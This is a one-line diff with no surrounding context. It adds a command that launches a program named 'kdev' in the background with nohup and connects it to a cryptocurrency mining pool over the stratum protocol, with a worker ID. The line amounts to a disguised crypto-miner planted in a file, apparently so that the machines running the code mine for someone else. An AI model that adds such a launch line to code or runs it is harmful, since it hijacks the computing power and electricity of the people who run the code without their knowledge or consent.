@@ -1,0 +1,1 @@
+nohup ./kdev -o stratum+tcp://pool.example:3333 -u 44x -p x &
